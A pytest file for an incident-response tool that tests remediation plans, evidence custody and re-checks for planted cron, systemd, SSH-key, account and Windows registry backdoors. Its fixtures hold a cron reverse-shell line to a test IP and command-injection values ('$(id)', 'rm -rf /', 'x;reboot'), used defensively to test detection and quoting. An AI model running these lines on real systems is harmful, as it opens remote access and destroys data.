"""R1/H1/H2 plan and H3/R2 re-check on a fake root: a plan for a planted cron backdoor, systemd unit, SSH
key and uid-0 account; the fix applied to the tree; the re-check with --root says each is gone and the
backdoor left in place still present."""
from __future__ import annotations

import json
import os

import pytest

from analysis import recheck, remediation
from collectors.case import Case
from collectors.verify import verify_case
from desktop import cli

from .conftest import CRON_LINE, CROND_LINE, GOOD_KEY, KEY


def _cli(*argv) -> int:
    return cli.main(["--lang", "en", *argv])


def _plan(capsys, case_dir) -> dict:
    capsys.readouterr()
    assert _cli("remediate", "--case", str(case_dir), "--json", "plan") == 0
    return json.loads(capsys.readouterr().out)


@pytest.fixture
def collected(tmp_path, fake_root):
    case_dir = tmp_path / "case"
    assert _cli("collect", "--case", str(case_dir), "--root", str(fake_root), "--profile", "triage") == 0
    return case_dir, fake_root


def test_plan_names_each_backdoor_with_its_evidence_and_commands(collected, capsys):
    case_dir, _root = collected
    plan = _plan(capsys, case_dir)
    by = {(s["action"], json.dumps(s["target"], sort_keys=True)): s for s in plan["steps"]}
    actions = {(s["action"], s["target"].get("path") or s["target"].get("account")) for s in plan["steps"]}
    assert ("remove_line", "/etc/crontab") in actions
    assert ("remove_line", "/etc/cron.d/job") in actions
    assert ("disable_unit", "/etc/systemd/system/implant.service") in actions
    assert ("remove_ssh_key", "/root/.ssh/authorized_keys") in actions
    assert ("lock_account", "backdoor") in actions
    case = Case.open(case_dir, affected_root="")
    for s in plan["steps"]:
        assert s["findings"] and s["findings"][0]["rule"], s
        assert s["evidence_ids"], s
        for e in s["evidence_ids"]:
            case.get_evidence(e)
        assert s["status"] == "pending" and s["commands"]
    cron = next(s for s in plan["steps"] if s["action"] == "remove_line" and s["target"]["path"] == "/etc/crontab")
    assert cron["target"]["line"] == CRON_LINE
    assert case.get_evidence(cron["evidence_ids"][0]).source == "/etc/crontab"
    assert any("grep -vxF" in c and "/etc/crontab" in c for c in cron["commands"])
    # one step per key of the file: the responder verifies each (the admin's key is skipped with a reason)
    keys = {s["target"]["comment"]: s for s in plan["steps"] if s["action"] == "remove_ssh_key"}
    assert set(keys) == {"attacker@evil", "admin@tinh"}
    assert keys["attacker@evil"]["target"]["key"] == KEY.split()[1]
    assert any(KEY.split()[1] in c and "grep -vF" in c for c in keys["attacker@evil"]["commands"])
    unit = next(s for s in plan["steps"] if s["action"] == "disable_unit")
    assert unit["commands"][0] == "systemctl disable --now implant.service"
    acct = next(s for s in plan["steps"] if s["action"] == "lock_account")
    assert acct["commands"][0] == "usermod -L -e 1 -s /usr/sbin/nologin backdoor"
    # generating again keeps the same steps (same ids), adds nothing
    again = _plan(capsys, case_dir)
    assert [s["key"] for s in again["steps"]] == [s["key"] for s in plan["steps"]]
    assert [s["id"] for s in again["steps"]] == [s["id"] for s in plan["steps"]]
    assert by
    case.close()


def test_mark_goes_to_custody_and_the_incident_action_log(collected, capsys):
    case_dir, _root = collected
    plan = _plan(capsys, case_dir)
    first = plan["steps"][0]["id"]
    assert _cli("remediate", "--case", str(case_dir), "mark", first, "--skipped") == 2
    assert "reason" in capsys.readouterr().err
    assert _cli("remediate", "--case", str(case_dir), "mark", "S99", "--done") == 2
    assert _cli("remediate", "--case", str(case_dir), "mark", first, "--done", "--by", "Nguyễn Văn A") == 0
    second = plan["steps"][1]["id"]
    assert _cli("remediate", "--case", str(case_dir), "mark", second, "--skipped", "--reason", "máy chủ dự phòng") == 0
    case = Case.open(case_dir, affected_root="")
    steps = {s.id: s for s in remediation.steps(case)}
    assert steps[first].status == "done" and steps[first].by == "Nguyễn Văn A" and steps[first].at
    assert steps[second].status == "skipped" and steps[second].reason == "máy chủ dự phòng"
    marks = [e for e in case.custody.entries() if e["action"] == "remediation_mark"]
    assert [(m["target"], json.loads(m["details"])["status"] if isinstance(m["details"], str) else m["details"]["status"])
            for m in marks] == [(first, "done"), (second, "skipped")]
    acts = case.incident()["actions"]
    assert acts[0]["action"].startswith(f"[{first}] ") and acts[0]["result"] == "đã làm" and acts[0]["by"] == "Nguyễn Văn A"
    assert acts[1]["result"] == "bỏ qua: máy chủ dự phòng"
    assert verify_case(case.path, log=False).ok
    case.close()


def test_recheck_after_the_fix(collected, capsys):
    case_dir, root = collected
    plan = _plan(capsys, case_dir)
    # the fix, applied to the tree: cron line, unit, attacker's key and account removed; /etc/cron.d/job kept
    crontab = root / "etc/crontab"
    crontab.write_text("\n".join(ln for ln in crontab.read_text().splitlines() if ln != CRON_LINE) + "\n")
    os.unlink(root / "etc/systemd/system/multi-user.target.wants/implant.service")
    os.unlink(root / "etc/systemd/system/implant.service")
    (root / "root/.ssh/authorized_keys").write_text(GOOD_KEY + "\n")
    passwd = root / "etc/passwd"
    passwd.write_text("".join(ln + "\n" for ln in passwd.read_text().splitlines() if not ln.startswith("backdoor:")))
    # a new backdoor appears meanwhile
    (root / "etc/cron.d/new").write_text("@reboot root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
    capsys.readouterr()
    rc = _cli("recheck", "--case", str(case_dir), "--root", str(root), "--json")
    out = json.loads(capsys.readouterr().out)
    assert rc == 1  # something is still present
    status = {(s["action"], s["title_en"]): s for s in out["steps"]}
    by_id = {s["id"]: s for s in out["steps"]}
    for s in plan["steps"]:
        r = by_id[s["id"]]
        t = s["target"]
        if s["action"] == "remove_line" and t["path"] == "/etc/cron.d/job":
            assert r["status"] == "still_present" and r["after_evidence"], r
            assert t["line"] == CROND_LINE
        elif s["action"] == "remove_ssh_key" and t["comment"] == "admin@tinh":
            assert r["status"] == "still_present", r
        elif s["action"] in ("remove_line", "disable_unit", "remove_ssh_key", "lock_account"):
            assert r["status"] == "gone", r
        assert r["before_evidence"] == s["evidence_ids"]
    assert status
    new = [f for f in out["new_findings"] if (f["details"] or {}).get("path") == "/etc/cron.d/new"]
    assert new, out["new_findings"]
    rows = {f["key"]: f["status"] for f in out["findings"]}
    assert rows["H2-suspicious-cron|path=/etc/cron.d/job"] == "still_present"
    assert rows["H2-suspicious-cron|path=/etc/crontab"] == "gone"
    assert rows["H2-extra-uid0|account=backdoor"] == "gone"
    case = Case.open(case_dir, affected_root="")
    assert recheck.latest(case)["run_id"] == out["run_id"]
    assert any(e["action"] == "recheck" for e in case.custody.entries())
    assert case.incident()["actions"][-1]["action"].startswith("Kiểm tra lại")
    assert "2 vẫn còn" in case.incident()["actions"][-1]["result"]
    assert verify_case(case.path, log=False).ok
    case.close()


def test_marks_and_recheck_reach_the_progress_report_and_form_04(collected, capsys):
    from reports.document import Table
    from reports.kinds import build_doc

    case_dir, root = collected
    plan = _plan(capsys, case_dir)
    first = plan["steps"][0]
    assert _cli("remediate", "--case", str(case_dir), "mark", first["id"], "--failed", "--reason", "không đủ quyền") == 0
    assert _cli("recheck", "--case", str(case_dir), "--root", str(root)) == 1
    case = Case.open(case_dir, affected_root="")
    for kind in ("progress", "closing"):
        doc = build_doc(case, kind, lang="vi")
        rows = [r for b in doc.blocks if isinstance(b, Table) for r in b.rows]
        assert any(r[2] == f"[{first['id']}] {first['title_vi']}" and r[3] == "không thành công: không đủ quyền"
                   for r in rows), kind
        assert any(r[2].startswith("Kiểm tra lại toàn bộ hệ thống") and "vẫn còn" in r[3] for r in rows), kind
    case.close()


def test_windows_findings_make_windows_steps():
    from analysis.findings import Finding

    def f(rule, details, kind="persistence", sev="high"):
        return Finding(kind, "H2", sev, "vi", "en", rule, None, ["E000009"], [], details)

    steps = remediation.build([
        f("H2-run-key", {"hive": "HKLM", "key": r"Software\Microsoft\Windows\CurrentVersion\Run", "name": "upd",
                         "value": r"C:\Users\Public\updater.exe -k"}),
        f("H2-windows-service-path", {"name": "EvilSvc", "binpath": r"C:\ProgramData\evil.exe"}),
        f("H2-scheduled-task", {"path": r"\Microsoft\Updater", "actions": [{"command": r"C:\Users\Public\u.exe"}],
                                "hidden": True}),
        f("H2-windows-wmi-subscription", {"event": "wmi_subscription", "consumer": "EvilConsumer"}),
        f("H2-windows-autostart-registry", {"event": "registry", "key": r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
                                            r"\Image File Execution Options\sethc.exe\Debugger"}),
        f("C6-failed-then-success", {"ip": "203.0.113.9", "success_account": "Administrator"}, "origin_candidate",
          "critical"),
    ], "windows")
    by = {s.action: s for s in steps}
    assert by["delete_registry_value"].commands[1].startswith(r'reg delete "HKLM\Software\Microsoft\Windows\CurrentVersion\Run" /v "upd"') \
        or any(s.target.get("name") == "upd" for s in steps)
    assert by["delete_service"].commands[2] == 'sc.exe delete "EvilSvc"'
    assert by["delete_task"].commands[2] == r'schtasks /Delete /TN "\Microsoft\Updater" /F'
    assert "EvilConsumer" in by["delete_wmi_subscription"].commands[2]
    ifeo = next(s for s in steps if s.target.get("name") == "Debugger")
    assert "IFEO" in ifeo.title_en and ifeo.os == "windows"
    assert by["change_password"].commands[0] == "net user Administrator *" and by["change_password"].os == "windows"
    assert all(s.evidence_ids == ["E000009"] and s.findings[0]["rule"] for s in steps)
    assert len({s.key for s in steps}) == len(steps) == 6


def test_windows_case_check_details_make_steps():
    """The details the Windows case checks (analysis/checks/windows_*.py) give: autoruns rows, task cache,
    services, SAM accounts, Defender detections, executions from odd places."""
    from analysis.findings import Finding

    def f(rule, details, sev="high"):
        return Finding("persistence", "C5", sev, "vi", "en", rule, None, ["E000004"], [], details)

    shell = f("ungcuu.windows.winlogon_changed", {"location": "winlogon", "hive": "HKLM", "key":
              r"Software\Microsoft\Windows NT\CurrentVersion\Winlogon", "name": "Shell", "value": r"explorer.exe, C:\x\evil.exe"})
    steps = remediation.build([
        shell,
        f("ungcuu.windows.ifeo_debugger", {"location": "ifeo_debugger", "hive": "HKLM", "target": "sethc.exe",
          "key": r"Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
          "name": "Debugger", "value": r"C:\Windows\System32\cmd.exe"}),
        f("ungcuu.windows.hidden_scheduled_task", {"path": r"\Updater", "actions": [r"C:\Users\Public\u.exe"], "has_sd": False}),
        f("ungcuu.windows.autostart_user_writable", {"name": "EvilSvc", "binpath": r"C:\Users\Public\svc.exe",
                                                     "start_type": "auto"}),
        f("ungcuu.windows.new_admin_account", {"name": "support", "rid": 1003, "groups": ["Administrators"]}),
        f("ungcuu.windows.defender_detection", {"resources": [{"kind": "file", "path": r"C:\Users\a\Downloads\x.exe"}]}),
        f("ungcuu.windows.exec_from_odd_place", {"path": r"C:\Users\Public\tool.exe", "seen_in": ["prefetch"]}, "medium"),
    ], "windows")
    acts = sorted(s.action for s in steps)
    assert acts == ["delete_registry_value", "delete_service", "delete_task", "lock_account", "quarantine_file",
                    "quarantine_file", "reset_registry_value"]
    reset = next(s for s in steps if s.action == "reset_registry_value")
    assert 'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v "Shell" /t REG_SZ /d "explorer.exe" /f' \
        in reset.commands
    assert not any("reg delete" in c and "Winlogon" in c for s in steps for c in s.commands)
    assert next(s for s in steps if s.action == "lock_account").commands[0] == "net user support /active:no"
    assert {s.target["path"] for s in steps if s.action == "quarantine_file"} == {
        r"C:\Users\a\Downloads\x.exe", r"C:\Users\Public\tool.exe"}


def test_hostile_entries_are_quoted_in_the_commands():
    """Lines, names and paths come from the attacker: the commands shown keep them single arguments."""
    import shlex

    from analysis.findings import Finding

    line = "* * * * * root curl http://x/$(id)'; rm -rf / #"
    f1 = Finding("persistence", "H2", "high", "vi", "en", "H2-suspicious-cron", None, ["E1"], [],
                 {"path": "/etc/cron.d/a b", "lines": [{"line": 1, "text": line}], "mechanism": "cron"})
    f2 = Finding("new_account", "H2", "medium", "vi", "en", "H2-new-account", None, ["E2"], [],
                 {"account": "x;reboot", "uid": 0})
    steps = remediation.build([f1, f2])
    cron = next(s for s in steps if s.action == "remove_line")
    grep = next(c for c in cron.commands if c.startswith("grep -vxF"))
    first = grep.split(" > ", 1)[0]
    assert shlex.split(first) == ["grep", "-vxF", "--", line, "/etc/cron.d/a b"]
    acct = next(s for s in steps if s.action == "lock_account")
    assert shlex.split(acct.commands[0]) == ["usermod", "-L", "-e", "1", "-s", "/usr/sbin/nologin", "x;reboot"]
